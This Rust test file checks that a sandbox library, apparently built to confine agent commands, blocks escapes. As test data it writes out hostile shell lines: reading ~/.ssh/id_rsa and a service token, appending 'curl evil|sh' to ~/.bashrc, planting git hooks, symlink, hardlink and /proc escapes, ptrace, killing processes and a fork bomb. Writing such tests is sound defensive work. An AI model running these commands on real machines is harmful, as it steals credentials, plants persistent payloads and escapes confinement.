//! Each escape is refused by both backends, and (where it is safe to try) succeeds without
//! the sandbox, so a sandbox that stopped working fails these tests.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

use trellis_sandbox::{Preset, Sandbox};

use super::fixture::{Fixture, SECRET, TOKEN, run};

/// Runs `line` under every backend and unsandboxed; `escaped` tells from the fixture's
/// state (and the output) whether the escape worked, `reset` undoes it.
fn check(
    f: &Fixture,
    line: &str,
    escaped: impl Fn(&super::fixture::Ran) -> bool,
    reset: impl Fn(),
    try_unsandboxed: bool,
) {
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            line,
        );
        assert!(
            !escaped(&ran),
            "{}: `{line}` escaped: {ran:?}",
            sandbox.backend().name()
        );
        reset();
    }
    if try_unsandboxed {
        let ran = run(
            &Sandbox::off(),
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            line,
        );
        assert!(
            escaped(&ran),
            "unsandboxed `{line}` did not escape: {ran:?}"
        );
        reset();
    }
}

fn exists(p: &std::path::Path) -> impl Fn(&super::fixture::Ran) -> bool + '_ {
    move |_| p.exists()
}

fn remove(p: &std::path::Path) -> impl Fn() + '_ {
    move || {
        let _ = std::fs::remove_file(p);
    }
}

#[test]
fn writes_outside_the_worktree_are_refused() {
    let f = Fixture::new();
    let abs = f.outside.join("abs");
    check(
        &f,
        &format!("echo x > {}", abs.display()),
        exists(&abs),
        remove(&abs),
        true,
    );
    let dotdot = f.repo.join(".trellis/worktrees/escaped");
    check(
        &f,
        "echo x > ../escaped",
        exists(&dotdot),
        remove(&dotdot),
        true,
    );
    std::os::unix::fs::symlink(&f.outside, f.worktree.join("link")).unwrap();
    let sym = f.outside.join("sym");
    check(&f, "echo x > link/sym", exists(&sym), remove(&sym), true);
    let proc_root = f.outside.join("procroot");
    check(
        &f,
        &format!("echo x > /proc/self/root{}", proc_root.display()),
        exists(&proc_root),
        remove(&proc_root),
        true,
    );
    let victim = f.outside.join("victim");
    let changed = |_: &super::fixture::Ran| {
        std::fs::read_to_string(&victim).unwrap_or_default() != "original\n"
    };
    let restore = || {
        std::fs::write(&victim, "original\n").unwrap();
        let _ = std::fs::remove_file(f.worktree.join("hl"));
    };
    check(
        &f,
        &format!("ln {} hl; echo evil >> hl", victim.display()),
        changed,
        restore,
        true,
    );
}

#[test]
fn the_home_directory_and_the_serve_token_are_hidden() {
    let f = Fixture::new();
    let leaked = |secret: &'static str| move |r: &super::fixture::Ran| r.out.contains(secret);
    check(&f, "cat ~/.ssh/id_rsa", leaked(SECRET), || {}, true);
    let token = f.config_dir.join("serve-token");
    check(
        &f,
        &format!("cat {}", token.display()),
        leaked(TOKEN),
        || {},
        true,
    );
    let home = f.home.join(".bashrc");
    check(
        &f,
        "echo 'curl evil|sh' >> ~/.bashrc",
        exists(&home),
        remove(&home),
        true,
    );
}

#[test]
fn git_hooks_and_config_are_read_only() {
    let f = Fixture::new();
    let hook = f.repo.join(".git/hooks/pre-commit");
    let common = f.repo.join(".git");
    check(
        &f,
        &format!("echo 'echo pwned' > {}/hooks/pre-commit", common.display()),
        exists(&hook),
        remove(&hook),
        true,
    );
    let config = f.repo.join(".git/config");
    let before = std::fs::read_to_string(&config).unwrap();
    check(
        &f,
        "git config core.hooksPath /tmp/evil",
        |_| std::fs::read_to_string(&config).unwrap_or_default() != before,
        || std::fs::write(&config, &before).unwrap(),
        true,
    );
}

#[test]
fn a_plain_repositorys_hooks_are_read_only_under_bubblewrap() {
    // A worktree that is the repository itself (its `.git` inside the writable tree).
    let f = Fixture::new();
    let policy = trellis_sandbox::SandboxPolicy::for_worktree(
        &f.repo,
        Preset::WorkspaceWrite,
        &Default::default(),
        Some(&f.home),
        None,
    );
    let sandbox = Sandbox::new(trellis_sandbox::Mode::Bwrap).unwrap();
    let hook = f.repo.join(".git/hooks/post-checkout");
    let ran = run(
        &sandbox,
        &policy,
        &f.repo,
        &f.home,
        "echo x > .git/hooks/post-checkout; echo y > new.txt",
    );
    assert!(!hook.exists(), "{ran:?}");
    assert!(
        f.repo.join("new.txt").exists(),
        "the worktree stays writable: {ran:?}"
    );
}

#[test]
fn the_network_is_off_loopback_and_dns_included() {
    let f = Fixture::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let accepted = || {
        std::thread::sleep(Duration::from_millis(50));
        tcp.accept().is_ok()
    };
    check(
        &f,
        &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected >&3"),
        |_| accepted(),
        || {},
        true,
    );
    // A DNS query to a resolver on loopback (the machine has no other): nothing arrives.
    let dns = UdpSocket::bind("127.0.0.1:0").unwrap();
    dns.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let dport = dns.local_addr().unwrap().port();
    let query = format!(
        "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
         s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', {dport}))\""
    );
    let received = |_: &super::fixture::Ran| {
        let mut buf = [0u8; 512];
        dns.recv(&mut buf).is_ok()
    };
    check(&f, &query, received, || {}, true);
    // The resolver library itself: no answer for a name outside /etc/hosts.
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            "python3 -c \"import socket; socket.getaddrinfo('example.com', 80)\"",
        );
        assert_ne!(ran.code, Some(0), "{ran:?}");
    }
}

#[test]
fn the_network_preset_reaches_loopback() {
    let f = Fixture::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    // bubblewrap's network preset shares the host's network namespace.
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWriteNetwork),
            &f.worktree,
            &f.home,
            &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo hi >&3"),
        );
        assert_eq!(ran.code, Some(0), "{}: {ran:?}", sandbox.backend().name());
        let (mut conn, _) = tcp.accept().unwrap();
        let mut s = String::new();
        conn.read_to_string(&mut s).unwrap();
        assert_eq!(s, "hi\n");
    }
}

#[test]
fn other_processes_cannot_be_signalled_or_traced() {
    let f = Fixture::new();
    let mut victim = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    let pid = victim.id();
    let dead = |_: &super::fixture::Ran| {
        std::thread::sleep(Duration::from_millis(50));
        victim_status(pid).is_none()
    };
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            &format!("kill -9 {pid}; kill -9 {}", std::process::id()),
        );
        assert!(!dead(&ran), "{}: {ran:?}", sandbox.backend().name());
    }
    let _ = victim.kill();
    let _ = victim.wait();
    // ptrace of a process of its own: refused by the seccomp filter (allowed unsandboxed).
    let line = "python3 -c \"import ctypes, os, time\nlibc = ctypes.CDLL(None, use_errno=True)\n\
                pid = os.fork()\nif pid == 0:\n    time.sleep(5); os._exit(0)\n\
                r = libc.ptrace(16, pid, 0, 0)\nprint('ptrace', r, ctypes.get_errno())\n\
                os.kill(pid, 9)\"";
    check(&f, line, |r| r.out.contains("ptrace 0 "), || {}, true);
}

fn victim_status(pid: u32) -> Option<()> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    // A zombie (killed, not yet reaped) counts as dead.
    (!stat.contains(") Z ")).then_some(())
}

#[test]
fn mounting_is_refused() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.worktree.join("m")).unwrap();
    for sandbox in Fixture::sandboxes() {
        let ran = run(
            &sandbox,
            &f.policy(Preset::WorkspaceWrite),
            &f.worktree,
            &f.home,
            "mount -t tmpfs none m && touch m/inside && echo mounted",
        );
        assert!(
            !ran.out.contains("mounted"),
            "{}: {ran:?}",
            sandbox.backend().name()
        );
    }
}

#[test]
fn a_fork_bomb_hits_the_pids_limit() {
    let f = Fixture::new();
    let mut policy = f.policy(Preset::WorkspaceWrite);
    policy.pids_max = 40;
    // Safe stand-in first: 100 sleeping children; only ~40 start inside the sandbox.
    let line = "n=0; for i in $(seq 100); do sleep 3 & n=$((n+1)); done 2>/dev/null; \
                echo started $(jobs -p | wc -l)";
    for sandbox in Fixture::sandboxes() {
        let ran = run(&sandbox, &policy, &f.worktree, &f.home, line);
        let started: usize = ran
            .out
            .split("started ")
            .nth(1)
            .and_then(|t| t.split_whitespace().next())
            .and_then(|n| n.parse().ok())
            .unwrap_or(999);
        assert!(started < 40, "{}: {ran:?}", sandbox.backend().name());
    }
    let ran = run(&Sandbox::off(), &policy, &f.worktree, &f.home, line);
    assert!(ran.out.contains("started 100"), "{ran:?}");
    // The real thing, bounded by `timeout` inside and the pids limit.
    for sandbox in Fixture::sandboxes() {
        let started = std::time::Instant::now();
        let ran = run(
            &sandbox,
            &policy,
            &f.worktree,
            &f.home,
            "timeout -s KILL 3 bash -c 'b(){ b | b & }; b' >/dev/null 2>&1; echo survived",
        );
        // The command ended (the bomb was contained and killed), in bounded time.
        assert!(ran.code.is_some(), "{}: {ran:?}", sandbox.backend().name());
        assert!(started.elapsed() < Duration::from_secs(30), "{ran:?}");
    }
}

#[test]
fn a_command_dies_with_its_parent() {
    // PR_SET_PDEATHSIG (the Landlock backend's hook) fires when the thread that spawned the
    // command exits: spawn from a thread that then ends. bubblewrap's `--die-with-parent`
    // is not covered here: it asks for the signal itself once running, and whether the
    // thread's exit reaches its sandbox was not reliable in this setup (a parent *process*
    // that exits does take it down; docs/security.md).
    let f = Fixture::new();
    let spawn = |sandbox: Sandbox, marker: std::path::PathBuf| {
        let policy = f.policy(Preset::WorkspaceWrite);
        let cwd = f.worktree.clone();
        let home = f.home.clone();
        std::thread::spawn(move || {
            let spec = trellis_sandbox::CommandSpec {
                program: "bash".into(),
                args: vec![
                    "-c".into(),
                    format!("sleep 2; touch {}", marker.display()).into(),
                ],
                cwd,
                env: super::fixture::env(&home),
            };
            let mut w = sandbox.wrap(&spec, &policy).unwrap();
            let child = w
                .command
                .stdin(std::process::Stdio::null())
                .spawn()
                .unwrap();
            (child, w.guard)
        })
        .join()
        .unwrap()
    };
    let landlock = Sandbox::new(trellis_sandbox::Mode::Landlock).unwrap();
    for sandbox in [landlock, Sandbox::off()] {
        let name = sandbox.backend().name();
        let marker = f.worktree.join(format!("survived-{name}"));
        let (mut child, guard) = spawn(sandbox, marker.clone());
        std::thread::sleep(Duration::from_millis(2500));
        let status = child.try_wait().unwrap();
        let _ = child.kill();
        let _ = child.wait();
        drop(guard);
        if name == "off" {
            assert!(
                marker.exists(),
                "unsandboxed, the command outlives its thread"
            );
        } else {
            assert!(
                !marker.exists(),
                "{name}: the command outlived its parent ({status:?})"
            );
        }
    }
}
